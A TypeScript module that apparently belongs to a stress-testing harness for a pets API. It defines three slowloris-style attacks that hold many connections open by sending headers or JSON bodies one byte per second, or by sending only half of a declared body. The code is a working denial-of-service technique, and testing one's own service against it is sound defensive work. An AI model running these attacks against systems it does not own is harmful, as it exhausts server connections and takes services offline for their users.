/** Clients that send one byte per second. */

import type { Socket } from 'node:net';
import { type Attack, authorized, keepOpen } from './attack.ts';

const CONNECTIONS = 50;
const HALF_BODIES = 1200;
const LIFETIME = 60;

export const slowHeads: Attack = (target, did) => {
  keepOpen(target, CONNECTIONS, LIFETIME, (socket) => {
    did('connections');
    socket.resume();
    socket.write('GET /v1/pets HTTP/1.1\r\nHost: x\r\nX: ');
    drip(socket, 'x');
  });
};

export const slowBodies: Attack = (target, did) => {
  const head = `POST /v1/pets HTTP/1.1\r\n${authorized(target)}Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n`;
  keepOpen(target, CONNECTIONS, LIFETIME, (socket) => {
    did('connections');
    socket.resume();
    socket.write(`${head}{"name":"`);
    drip(socket, 'x');
  });
};

/** Bodies of which the second half never arrives. */
export const halfBodies: Attack = (target, did) => {
  const head = `POST /v1/pets HTTP/1.1\r\n${authorized(target)}Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n`;
  keepOpen(target, HALF_BODIES, LIFETIME, (socket) => {
    did('connections');
    socket.resume();
    socket.write(`${head}{"name":"${'x'.repeat(30_000)}`);
  });
};

function drip(socket: Socket, byte: string): void {
  const timer = setInterval(() => socket.write(byte), 1000);
  socket.once('close', () => clearInterval(timer));
}
